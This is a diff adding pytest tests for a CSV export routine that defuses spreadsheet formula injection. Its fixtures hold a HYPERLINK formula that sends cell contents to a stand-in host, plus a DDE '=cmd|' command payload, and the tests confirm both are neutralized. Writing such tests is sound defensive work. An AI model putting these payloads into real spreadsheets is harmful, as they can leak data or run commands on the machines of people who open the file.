@@ -1,0 +1,140 @@
+"""Tests of the formula-safe CSV export."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pandas as pd
+import pytest
+
+from logparse.csvsafe import neutralize_formula, write_csv
+
+HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1, "details")'
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "=1+1",
+        HYPERLINK,
+        "+41 22 000 00 00",
+        "-2+3",
+        "@SUM(A1:A3)",
+        "\t=1+1",
+        "\r=1+1",
+        "-1",
+    ],
+)
+def test_neutralize_formula_prefixes_apostrophe(value: str) -> None:
+    assert neutralize_formula(value) == "'" + value
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "Error allocating a new image.",
+        "",
+        "1-2",
+        " =1+1",
+        "'=already quoted",
+        -1,
+        -2.5,
+        0,
+        None,
+        True,
+    ],
+)
+def test_neutralize_formula_keeps_safe_values(value: object) -> None:
+    assert neutralize_formula(value) == value
+
+
+def _read(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def _frame() -> pd.DataFrame:
+    return pd.DataFrame(
+        {
+            "message": pd.Series([HYPERLINK, "plain"], dtype=object),
+            "creator": pd.Series(["@admin", "ops1"], dtype="category"),
+            "text": pd.Series(["-1", "ok"], dtype="string"),
+            "object_id": pd.Series([-1, pd.NA], dtype="Int64"),
+            "ratio": [-0.5, 1.25],
+            "when": pd.to_datetime(["2014-09-18 01:54:27", None]),
+            "required_states": pd.Series([("RUNNING", "POWEROFF"), ()], dtype=object),
+        }
+    )
+
+
+def test_write_csv_neutralizes_text_cells() -> None:
+    buffer = io.StringIO()
+    write_csv(_frame(), buffer)
+    rows = _read(buffer.getvalue())
+
+    assert rows[0]["message"] == "'" + HYPERLINK
+    assert rows[0]["creator"] == "'@admin"
+    assert rows[0]["text"] == "'-1"
+    assert rows[1]["message"] == "plain"
+
+
+def test_write_csv_keeps_numbers_and_dates() -> None:
+    buffer = io.StringIO()
+    write_csv(_frame(), buffer)
+    rows = _read(buffer.getvalue())
+
+    assert rows[0]["object_id"] == "-1"
+    assert rows[1]["object_id"] == ""
+    assert rows[0]["ratio"] == "-0.5"
+    assert rows[0]["when"] == "2014-09-18 01:54:27"
+    assert rows[1]["when"] == ""
+
+
+def test_write_csv_writes_tuples_as_json() -> None:
+    buffer = io.StringIO()
+    write_csv(_frame(), buffer)
+    rows = _read(buffer.getvalue())
+
+    assert rows[0]["required_states"] == '["RUNNING", "POWEROFF"]'
+    assert rows[1]["required_states"] == "[]"
+
+
+def test_write_csv_leaves_frame_unchanged() -> None:
+    frame = _frame()
+    write_csv(frame, io.StringIO())
+
+    assert frame.loc[0, "message"] == HYPERLINK
+
+
+def test_write_csv_accepts_rows() -> None:
+    rows = [{"cause": "unknown", "example": "=cmd|' /C calc'!A0", "count": -3}]
+    buffer = io.StringIO()
+    write_csv(rows, buffer)
+    written = _read(buffer.getvalue())
+
+    assert written[0]["example"] == "'=cmd|' /C calc'!A0"
+    assert written[0]["count"] == "-3"
+
+
+def test_write_csv_orders_columns() -> None:
+    rows = [{"b": 1, "a": "x"}]
+    buffer = io.StringIO()
+    write_csv(rows, buffer, columns=["a", "b"])
+
+    assert buffer.getvalue().splitlines()[0] == "a,b"
+
+
+def test_write_csv_path_with_bom(tmp_path) -> None:
+    path = tmp_path / "out.csv"
+    write_csv(pd.DataFrame({"用户": ["运维一组"]}), path, encoding="utf-8-sig")
+    data = path.read_bytes()
+
+    assert data.startswith(b"\xef\xbb\xbf")
+    assert data.decode("utf-8-sig") == "用户\n运维一组\n"
+
+
+def test_write_csv_path_without_bom(tmp_path) -> None:
+    path = tmp_path / "out.csv"
+    write_csv(pd.DataFrame({"cause": ["name_collision"]}), path)
+
+    assert path.read_bytes() == b"cause\nname_collision\n"
